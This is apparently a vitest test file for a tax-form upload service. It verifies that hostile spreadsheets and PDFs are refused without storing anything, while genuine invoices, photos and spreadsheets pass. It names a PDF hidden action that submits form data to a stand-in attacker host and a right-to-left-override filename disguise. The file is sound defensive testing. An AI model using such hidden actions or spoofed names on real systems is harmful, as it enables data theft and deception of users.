// The hostile upload corpus (tests/fixtures/upload-corpus.ts): none is accepted, each gets
// its status, and nothing of the request is stored (no lead, no file row). A genuine
// spreadsheet still passes, so the checks are not simply refusing everything.
import { fileTypeFromBuffer } from 'file-type';
import { PDFDocument } from 'pdf-lib';
import request from 'supertest';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { SUBMIT_PATH } from '../../common/api/submission';
import { VALID_FORM_DATA } from '../fixtures/form-examples';
import { HOSTILE_UPLOADS, type HostileUpload } from '../fixtures/upload-corpus';
import { compressedPdf, xlsBytes } from '../fixtures/active-documents';
import { HOSTILE_PDFS, incrementallyUpdatedPdf } from '../fixtures/hostile-pdfs';
import { whatReaderFinds } from '../setup/pdf-oracle';
import { pdfBytes, pngBytes } from '../fixtures/files';
import { BENIGN_SPREADSHEETS, HOSTILE_SPREADSHEETS } from '../fixtures/hostile-spreadsheets';
import { startTestApp, type TestApp } from '../setup/test-app';
import { contentProblem } from '../../server/leads/check-file-content';

let testApp: TestApp;
let accepted = 0;

beforeAll(async () => {
  testApp = await startTestApp();
});
afterAll(async () => {
  console.log(`Malicious uploads accepted: ${accepted} of ${HOSTILE_UPLOADS.length}`);
  await testApp?.close();
});

function submit(field: HostileUpload['field'], files: HostileUpload['files']) {
  const [formType, formData] =
    field === 'invoices'
      ? ['Autónomos ZZP', VALID_FORM_DATA.zzp]
      : ['Declaración de Impuestos', VALID_FORM_DATA.taxReturn];
  const call = request(testApp.app)
    .post(SUBMIT_PATH)
    .field('formType', formType)
    .field('formData', JSON.stringify(formData));
  for (const file of files) call.attach(field, file.content, file.name);
  return call;
}

const counts = async () => ({
  leads: await testApp.services.prisma.lead.count(),
  files: await testApp.services.prisma.leadFile.count(),
});

test.each(HOSTILE_UPLOADS.map((upload) => [upload.name, upload] as const))(
  '%s is refused and nothing is stored',
  async (_name, upload) => {
    const before = await counts();
    const response = await submit(upload.field, upload.files);
    if (response.status === 200) accepted++;
    expect(response.status).toBe(upload.status);
    expect(response.body).toMatchObject({ success: false, error: expect.any(String) });
    expect(await counts()).toEqual(before);
  },
);

test('ordinary documents still pass: a plain PDF, one saved with object streams, one from pdf-lib, a JPEG photo, an .xls', async () => {
  const saved = await PDFDocument.create();
  saved.addPage().drawText('Factura 2024');
  const response = await submit('invoices', [
    { name: 'factura.pdf', content: pdfBytes() },
    { name: 'factura-1.5.pdf', content: compressedPdf() },
    { name: 'factura-pdf-lib.pdf', content: Buffer.from(await saved.save()) },
    // A JPEG as a phone camera starts it (SOI, JFIF header), then the end marker.
    {
      name: 'recibo.jpg',
      content: Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0xff, 0xd9]),
    },
    { name: 'facturas 2023.xls', content: xlsBytes() },
  ]);
  expect(response.status, JSON.stringify(response.body)).toBe(200);
  expect(await testApp.services.prisma.leadFile.count({ where: { leadId: response.body.id } })).toBe(5);
});

test('a PDF saved again as an update (a new revision whose xref lists the changed object) still passes', async () => {
  const response = await submit('invoices', [{ name: 'factura-actualizada.pdf', content: incrementallyUpdatedPdf() }]);
  expect(response.status, JSON.stringify(response.body)).toBe(200);
});

test.each(HOSTILE_PDFS.filter((pdf) => pdf.readerSees).map((pdf) => [pdf.name, pdf] as const))(
  'the corpus is hostile to a reader: pdf.js finds the hidden action (%s)',
  async (_name, pdf) => {
    const found = await whatReaderFinds(pdf.content);
    if (pdf.readerSees === 'script') expect(found.scripts.join()).toContain('submitForm("https://attacker.example/x")');
    else expect(found.links).toContain('Link "https://attacker.example/x"');
  },
);

test("a right-to-left override is taken out of a real photo's name, so it reads as what it is", async () => {
  const response = await submit('invoices', [{ name: 'factura\u202eexe.png', content: pngBytes() }]);
  expect(response.status).toBe(200);
  const [file] = await testApp.services.prisma.leadFile.findMany({
    where: { leadId: response.body.id },
    select: { originalName: true },
  });
  expect(file!.originalName).toBe('facturaexe.png');
});

test('genuine spreadsheets are accepted: formulas, a link inside the workbook, references to its own sheets', async () => {
  const response = await submit('invoices', BENIGN_SPREADSHEETS);
  expect(response.status, JSON.stringify(response.body)).toBe(200);
  expect(await testApp.services.prisma.leadFile.count({ where: { leadId: response.body.id } })).toBe(2);
});

test('a refused spreadsheet is named under its field in the visitor’s language', async () => {
  const [hostile] = HOSTILE_SPREADSHEETS;
  const response = await request(testApp.app)
    .post(SUBMIT_PATH)
    .field('formType', 'Autónomos ZZP')
    .field('language', 'en')
    .field('formData', JSON.stringify(VALID_FORM_DATA.zzp))
    .attach('invoices', hostile!.content, hostile!.file);
  expect(response.status).toBe(415);
  expect(response.body.fieldErrors.invoices).toMatchObject({ code: 'validation.fileUnsafe', file: hostile!.file });
  expect(response.body.fieldErrors.invoices.message).toBe(
    `“${hostile!.file}” contains parts we do not accept for security reasons (macros, scripts or attached files). Save it as a plain PDF or image and choose it again.`,
  );
});

test.each([
  ...HOSTILE_SPREADSHEETS.map((sheet) => [sheet.name, sheet.content] as const),
  ...HOSTILE_PDFS.map((pdf) => [pdf.name, pdf.content] as const),
])('%s: a real document of its kind, refused for what it holds, not as unreadable', async (_name, content) => {
  const mime = (await fileTypeFromBuffer(content))?.mime;
  expect([
    'application/pdf',
    'application/x-cfb',
    'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
  ]).toContain(mime);
  const problem = await contentProblem(mime!, content);
  expect(problem).toBeDefined();
  expect(problem).not.toMatch(/unreadable/);
});
